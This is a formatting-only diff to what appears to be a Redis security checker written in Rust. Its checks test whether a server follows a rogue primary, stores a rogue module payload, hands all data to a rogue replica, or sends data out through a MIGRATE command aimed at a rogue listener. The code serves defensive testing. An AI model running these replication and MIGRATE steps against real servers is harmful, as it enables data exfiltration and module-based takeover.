@@ -16,7 +16,10 @@ pub const ATTEMPTS: &[Attempt] = &[
             title: "The server does not follow a rogue primary",
             severity: Critical,
             why: "REPLICAOF replaces all data by the attacker's, and is the door of the module chain (P2PInfect, HeadCrab, SkidMap).",
-            references: &["https://2018.zeronights.ru/wp-content/uploads/materials/15-redis-post-exploitation.pdf", "https://attack.mitre.org/techniques/T1105/"],
+            references: &[
+                "https://2018.zeronights.ru/wp-content/uploads/materials/15-redis-post-exploitation.pdf",
+                "https://attack.mitre.org/techniques/T1105/",
+            ],
             by_hand: "take @admin from every application, and name peers under [firewall]",
         }),
         how: How::Each(Who::EverybodyAlone, rogue_primary),
@@ -27,7 +30,10 @@ pub const ATTEMPTS: &[Attempt] = &[
             title: "A rogue primary does not leave a program among the data",
             severity: Critical,
             why: "What a primary sends as a data set lies on the disk byte for byte, whatever it is: a module to be loaded next.",
-            references: &["https://2018.zeronights.ru/wp-content/uploads/materials/15-redis-post-exploitation.pdf", "Redis replication.c, readSyncBulkPayload"],
+            references: &[
+                "https://2018.zeronights.ru/wp-content/uploads/materials/15-redis-post-exploitation.pdf",
+                "Redis replication.c, readSyncBulkPayload",
+            ],
             by_hand: "take @admin from every application, and name peers under [firewall]",
         }),
         how: How::Each(Who::EverybodyAlone, rogue_payload),
@@ -38,7 +44,10 @@ pub const ATTEMPTS: &[Attempt] = &[
             title: "An intruder does not copy everything as a replica",
             severity: Critical,
             why: "PSYNC hands over all keys of all databases in one stream.",
-            references: &["Redis replication.md", "https://attack.mitre.org/techniques/T1005/"],
+            references: &[
+                "Redis replication.md",
+                "https://attack.mitre.org/techniques/T1005/",
+            ],
             by_hand: "take @admin and @dangerous from every application (role = \"application\")",
         }),
         how: How::Each(Who::Intruders, rogue_replica),
@@ -49,7 +58,10 @@ pub const ATTEMPTS: &[Attempt] = &[
             title: "The server does not carry its data off to another",
             severity: High,
             why: "MIGRATE connects from the inside to wherever it is told, with the data and past every inbound filter.",
-            references: &["Redis migrate.md", "https://attack.mitre.org/techniques/T1048/"],
+            references: &[
+                "Redis migrate.md",
+                "https://attack.mitre.org/techniques/T1048/",
+            ],
             by_hand: "take @dangerous from every application, and name peers under [firewall]",
         }),
         how: How::Each(Who::EverybodyAlone, migrate),
@@ -83,7 +95,9 @@ fn rogue_payload(caller: &mut Caller) -> Result<String, Stop> {
         }
         std::thread::sleep(Duration::from_millis(20));
     }
-    Err(Stop::Trouble("the payload was sent and is not there".to_owned()))
+    Err(Stop::Trouble(
+        "the payload was sent and is not there".to_owned(),
+    ))
 }
 
 /// It says in its log only why it could not connect.
@@ -123,7 +137,15 @@ fn migrate(caller: &mut Caller) -> Result<String, Stop> {
     key.map_err(Stop::Trouble)?;
     let port = rogue.port.to_string();
     // The rogue says nothing, so that its end is a time-out where it gets that far.
-    let said = caller.ask(&["MIGRATE", &Rogue::address(), &port, "prove", "0", "400", "COPY"]);
+    let said = caller.ask(&[
+        "MIGRATE",
+        &Rogue::address(),
+        &port,
+        "prove",
+        "0",
+        "400",
+        "COPY",
+    ]);
     if rogue.is_visited() {
         return Ok("MIGRATE connects to another host's server".to_owned());
     }
@@ -132,6 +154,8 @@ fn migrate(caller: &mut Caller) -> Result<String, Stop> {
             Err(Stop::Refused(Layer::Sandbox, words))
         }
         Err(stop) => Err(stop),
-        Ok(_) => Err(Stop::Trouble("MIGRATE is accepted, and nobody came".to_owned())),
+        Ok(_) => Err(Stop::Trouble(
+            "MIGRATE is accepted, and nobody came".to_owned(),
+        )),
     }
 }
